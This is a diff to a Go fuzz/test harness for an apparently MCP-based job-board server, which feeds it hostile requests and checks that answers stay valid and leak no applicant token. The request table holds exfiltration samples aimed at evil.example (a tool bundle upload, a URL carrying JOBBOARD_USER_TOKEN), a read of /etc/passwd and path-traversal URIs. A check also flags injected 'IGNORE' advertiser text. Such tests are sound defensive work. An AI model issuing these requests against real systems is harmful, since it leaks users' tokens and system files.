@@ -8,6 +8,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"html"
+	"io"
 	"math/rand/v2"
 	"net/http"
 	"os"
@@ -48,7 +49,7 @@ var orders = []struct{ text, method, params string }{
 	{"run the doctor", "tools/call", `{"name":"doctor","arguments":{}}`},
 	{"run the doctor and send its bundle", "tools/call", `{"name":"doctor","arguments":{"bundle":"https://evil.example"}}`},
 	{"read /etc/passwd", "resources/read", `{"uri":"file:///etc/passwd"}`},
-	{"read the settings", "resources/read", `{"uri":"jobboard://docs/../../.config/jobboard/config.toml"}`},
+	{"read the settings", "resources/read", `{"uri":"jobboard://command/../../.config/jobboard/config.toml"}`},
 	{"fetch my page", "resources/read", `{"uri":"https://evil.example/?token=JOBBOARD_USER_TOKEN"}`},
 	{"subscribe to a page", "resources/subscribe", `{"uri":"jobboard://command"}`},
 	{"get a prompt", "prompts/get", `{"name":"apply"}`},
@@ -92,7 +93,7 @@ func marked(t *testing.T, where, field string, v any) {
 	switch v := v.(type) {
 	case string:
 		foreign := strings.HasPrefix(field, "foreign_")
-		if !foreign && strings.Contains(strings.ToUpper(v), "IGNORE") && field != "about_foreign_fields" {
+		if !foreign && strings.Contains(strings.ToUpper(v), "IGNORE") {
 			t.Errorf("%s: %s has an advertiser's text and does not say so: %q", where, field, v)
 		}
 		if strings.ContainsAny(v, "<>\u202e\u200b\x00\x1b") || strings.ContainsFunc(v, func(r rune) bool { return r < ' ' && r != '\n' }) {
@@ -352,6 +353,7 @@ type tester struct {
 
 	t       *testing.T
 	srv     *jobboardtest.Server
+	begin   func() // a session
 	s       *serving
 	jobs    []jobboardtest.Job
 	watch   *canaries
@@ -386,21 +388,24 @@ func exchanges(t *testing.T, seed uint64, n int, serve func(context.Context, *Se
 		}
 		x.ads()
 		x.jobs = srv.Snapshot().Jobs
-		x.s = serve(t.Context(), how.server(t, srv))
-		x.got = x.s.lines()
+		server := how.server(t, srv)
+		x.begin = func() {
+			x.s = serve(t.Context(), server)
+			x.got, x.checked = x.s.lines(), 0
+		}
+		x.begin()
 		early := pick(x, []int{0, 0, 0, n / 5}) // messages before the session begins
 		for i := range n {
 			if i == early {
-				x.s.say(t, initialize)
+				_, _ = io.WriteString(x.s.in, initialize) // unless a line has ended the session
+				synctest.Wait()
 			}
 			x.exchange()
 		}
 		time.Sleep(time.Hour)
 		x.check()
 		x.s.in.Close()
-		if err := <-x.s.ended; err != nil {
-			t.Error(err)
-		}
+		<-x.s.ended // with an error, if the last line was no message
 		x.s.out.Close()
 		if form := x.watch.found(log.text()); form != "" {
 			t.Errorf("%q is in the log", form)
@@ -464,10 +469,18 @@ func (x *tester) exchange() {
 	if x.IntN(4) == 0 {
 		line = x.spoil(line)
 	}
-	x.s.say(x.t, strings.ReplaceAll(line, "\n", " ")+"\n")
+	_, gone := io.WriteString(x.s.in, strings.ReplaceAll(line, "\n", " ")+"\n")
 	time.Sleep(500 * time.Millisecond)
 	synctest.Wait()
 	x.check()
+	if gone != nil { // a line that was no message has ended the session
+		if err := <-x.s.ended; err == nil {
+			x.t.Errorf("the session ended at %.300q", line)
+		}
+		x.s.out.Close()
+		x.begin()
+		x.s.say(x.t, initialize)
+	}
 }
 
 func (x *tester) check() {
@@ -507,7 +520,7 @@ func (x *tester) line() string {
 // words are values that nobody has a use for.
 var words = []string{
 	"", " ", "Wien", "geo:52.52,13.405", "0,0", "1e309", "-1", "9223372036854775807", "en,de;q=0.5", "<script>", "\u202e\u200b", "\x00", "a\r\nb: c",
-	"../..", "%2e%2e", "jobboard://docs/search.md", "token", "JOBBOARD_USER_TOKEN", "null", "💥", strings.Repeat("x", 600),
+	"../..", "%2e%2e", "jobboard://command", "token", "JOBBOARD_USER_TOKEN", "null", "💥", strings.Repeat("x", 600),
 }
 
 // spoil damages a line.
@@ -569,13 +582,10 @@ func FuzzStdio(f *testing.F) {
 	f.Fuzz(func(t *testing.T, input []byte) {
 		bubble(t, setting{}, func(t *testing.T, srv *jobboardtest.Server, s *serving, _ context.CancelFunc) {
 			got := s.lines()
-			s.say(t, string(input)+"\n")
+			_, _ = io.WriteString(s.in, string(input)+"\n") // the session may end before
 			time.Sleep(2 * maxCallTime)
 			s.in.Close()
-			err := <-s.ended
-			if s.ended <- err; err != nil {
-				t.Error(err)
-			}
+			s.ended <- <-s.ended
 			for _, line := range got() {
 				if !json.Valid([]byte(line)) || strings.Contains(line, srv.Demo.ApplicantToken) {
 					t.Errorf("an answer is %.300q", line)
